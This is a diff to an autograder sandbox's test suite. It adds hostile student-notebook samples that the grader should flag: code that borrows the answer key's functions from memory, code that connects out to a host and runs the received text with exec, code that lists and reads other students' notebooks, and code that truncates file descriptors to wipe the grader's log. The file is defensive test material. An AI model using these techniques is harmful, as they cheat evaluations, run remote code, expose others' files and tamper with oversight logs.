@@ -27,7 +27,9 @@ BROKEN_RELU_GRAD = ("return (np.asarray(x, dtype=np.float64) > 0).astype(np.floa
                     "return (np.asarray(x, dtype=np.float64) < 0).astype(np.float64)")
 ESCAPE = f"/tmp/autograder-escape-{uuid.uuid4().hex}.txt"
 ROOT = os.geteuid() == 0  # a root grader puts the decoys on a tmpfs where writes are found; else they are read-only
-TRIPPED = "tried to read the answer key, the solutions or the gradebook"
+TRIPPED = "tried to read the answer key, the solutions, the gradebook or other students' files"
+NETWORK = "tried to reach the network, which the sandbox does not have: the kernel counted"
+LOG_TAMPERED = "a file descriptor it inherited, a decoy of the grader's log"
 PLANTED = "tried to write into the toolkit, the course or the grading folder" if ROOT else "Read-only file system"
 
 
@@ -262,12 +264,27 @@ readline.read_history_file({REFERENCE_DIR + "/activations.py"!r})
 exec("\\n".join(readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1)))
 ''',
     # the answer key's functions looked for among the live objects (the old grader lent them to student code)
+    # and used in place of the answers
     "borrows-reference": '''
 import gc
-lent = [f for f in gc.get_objects() if callable(f) and getattr(f, "__module__", "") and
-        str(getattr(f, "__module__", "")).startswith("autograder")]
+lent = {f.__name__: f for f in gc.get_objects() if callable(f) and
+        str(getattr(f, "__module__", "")).startswith("autograder")}
 if not lent:
     raise LookupError("no function of the answer key in this process")
+globals().update(lent)
+''',
+    # the answers fetched from the network: a course server, a Jupyter server on the grader's machine, a name
+    "connects-out": '''
+import socket
+for address in [("140.82.112.3", 443), ("127.0.0.1", 8888), ("::1", 5432)]:
+    try:
+        exec(socket.create_connection(address, timeout=2).recv(1 << 20).decode(), globals())
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo("answers.example.org", 443)
+except OSError:
+    pass
 ''',
 }
 
@@ -322,9 +339,15 @@ for folder in (os.path.dirname(source), {str(course.REPO / "nnlab")!r}):
     with open(importlib.util.cache_from_source(os.path.join(folder, "checks.py")), "wb") as f:
         f.write(header + marshal.dumps(code))
 ''',
-    # other students' files
+    # another student's notebook, by a name the attacker knows
     "reads-others": lambda grading: f'''
 print(open({str(grading / "submitted" / "good" / ASSIGNMENT / NOTEBOOK)!r}).read()[:100])
+''',
+    # other students' notebooks, found by listing the grading folder
+    "lists-others": lambda grading: f'''
+import glob
+for path in glob.glob({str(grading / "submitted" / "*" / ASSIGNMENT / "*.ipynb")!r}):
+    print(open(path).read()[:100])
 ''',
 }
 
@@ -530,7 +553,8 @@ def hostile(grading, cell_seconds, notebook_seconds):
                                     FULL, "flagged", "wrote outside its cells"),
         "truncates-fds": Case(dump(_broken_relu_grad("import os\nfor fd in range(3, 64):\n    try:\n"
                                                      "        os.ftruncate(fd, 0)\n    except OSError:\n"
-                                                     "        pass")), FULL - relu_grad_tests, "ok"),
+                                                     "        pass")), FULL - relu_grad_tests, "flagged",
+                              "truncated " + LOG_TAMPERED),
         "fork-exec-shell": Case(dump(_append("sigmoid", _fork_exec_shell(
             f"id -u; touch {course.REPO}/nnlab/planted.py /toolkit/nnlab/planted.py 2>&1"))), FULL,
             "flagged" if ROOT else "ok", PLANTED if ROOT else ""),
@@ -544,6 +568,7 @@ def hostile(grading, cell_seconds, notebook_seconds):
         "copies-reference": Case(dump(_copies_reference()), 0.0, "flagged", TRIPPED),
         "rewrites-tests": Case(dump(_broken_relu_grad(REWRITE_TESTS)), FULL - from_relu, "flagged", "did not run"),
         "threads-and-signals": Case(dump(_append("sigmoid", THREADS_AND_SIGNALS)), FULL, "ok"),
+        "own-loopback-server": Case(dump(_append("sigmoid", OWN_SERVER)), FULL, "ok"),
         # honest code
         **{name: Case(dump(_honest(name)), FULL, "ok") for name in HONEST},
         "scipy-expit": Case(dump(_scipy_expit()), FULL, "ok", skip=scipy_missing),
@@ -551,13 +576,13 @@ def hostile(grading, cell_seconds, notebook_seconds):
         "list-grade-id": Case(dump(_list_grade_id()), FULL, "flagged", "recognised by content: tanh"),
     }
     # the finalizer runs when the process exits, after the last cell: what it prints is noted
-    # each reason below is evidence the grader gathers outside the sandbox (autograder.sandbox.tripwire),
-    # except the two that touch no boundary: the answer key looked for in the process's own memory, and
-    # another student's notebook by its path (the decoys must not reveal other students' names)
+    # each reason below is evidence the grader gathers outside the sandbox (autograder.sandbox.tripwire,
+    # .network), except one that touches no boundary: another student's notebook opened by a path that does
+    # not exist in the sandbox (the decoys must not reveal other students' names), noted from the error
     reasons = {**dict.fromkeys(("hook-pre-execute", "weakref-finalize", "marshal-bytecode", "raw-memory",
-                                "thread-start-new", "dir-fd", "readline-history", "sqlite-gradebook"), TRIPPED),
-               "pyc-in-toolkit": PLANTED, "borrows-reference": "no function of the answer key",
-               "reads-others": "No such file or directory"}
+                                "thread-start-new", "dir-fd", "readline-history", "sqlite-gradebook",
+                                "borrows-reference", "lists-others"), TRIPPED),
+               "pyc-in-toolkit": PLANTED, "connects-out": NETWORK, "reads-others": "No such file or directory"}
     for name, reason in reasons.items():
         cases[name] = Case(dump(escaped(name, grading)), 0.0, "flagged" if reason else "ok", reason)
     return cases
@@ -584,6 +609,14 @@ worker = threading.Thread(target=print, args=("a thread ran",))
 worker.start()
 worker.join()
 signal.signal(signal.SIGUSR1, lambda *args: None)
+"""
+
+# A server of the notebook's own on loopback and a client of its own: no network leaves the sandbox
+OWN_SERVER = """
+import socket, threading
+server = socket.create_server(("127.0.0.1", 0))
+threading.Thread(target=lambda: server.accept()[0].sendall(b"hello"), daemon=True).start()
+print(socket.create_connection(server.getsockname()).recv(5))
 """
 
 # Everything of the instructor's cells the process holds: IPython's input history, linecache, the
